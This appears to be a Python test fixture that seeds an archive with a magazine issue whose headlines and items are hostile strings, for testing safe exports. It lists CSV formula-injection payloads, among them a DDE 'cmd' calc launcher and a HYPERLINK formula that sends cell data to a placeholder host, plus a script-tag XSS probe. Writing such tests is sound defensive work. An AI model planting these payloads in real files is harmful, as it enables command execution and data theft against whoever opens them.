"""An archive to export: an ordinary issue, a cut one, and one made of texts that break careless exports."""

from __future__ import annotations

from dataclasses import replace

from archive_samples import CUT_ISSUE, ISSUE, READING, SITE, Arrived, keep, page

from db.engine import Archive
from parsers.model import Format, Headline, Item, Key, Reading

# Cells that OWASP lists as live in a spreadsheet, with ways round a first, careless guard.
LIVE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.invalid?x="&A1,"Error")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "quiet;=1+1",
    'quiet;"=1+1"',
    'quiet";=1+1;"',
    "quiet\t=1+1",
    "quiet\r\n=1+1",
    '"=1+1"',
]
NAUGHTY = [
    "'",
    "''=1",
    "'quoted' from the start",
    ";';'",
    'quotes " and "" and \\ and \\n',
    "a,b;c\td",
    "line one\nline two\r\nline three\rline four",
    "separators \u2028 \u2029 \x85 \x1f \x7f",
    "\u202eright to left\u202c العربية ﷽",
    "e\u0301 é \u200d \ufeff 𝔘 🚢 👩‍👩‍👦",
    "NULL",
    "undefined",
    "1E+20",
    "0x1F",
    "<script>alert(1)</script> & ]]> &amp;",
    "",
    " ",
    "007",
    "1.20",
]
HOSTILE = [*LIVE, *NAUGHTY]
HOSTILE_KEY = Key(2, 20)


def fill(archive: Archive) -> None:
    """Issue 2.4 whole, 2.5 cut, and 2.20 with an item and a headline of each hostile text."""
    hostile = replace(
        ISSUE,
        key=HOSTILE_KEY,
        title="=Harbour Digest Vol 2.20",
        credit=None,
        headlines=tuple(Headline(at, text) for at, text in enumerate(HOSTILE, 1)),
        items=tuple(Item(at, at, text) for at, text in enumerate(HOSTILE, 1)),
        claims=(),
    )
    keep(
        archive,
        Arrived(page(b"one"), [READING]),
        Arrived(page(b"two", f"{SITE}/2-20/"), [Reading(1, Format.PAGE, hostile)]),
        Arrived(
            page(b"three", f"{SITE}/2-5/"),
            [Reading(1, Format.PDF, replace(CUT_ISSUE, key=Key(2, 5)))],
        ),
    )
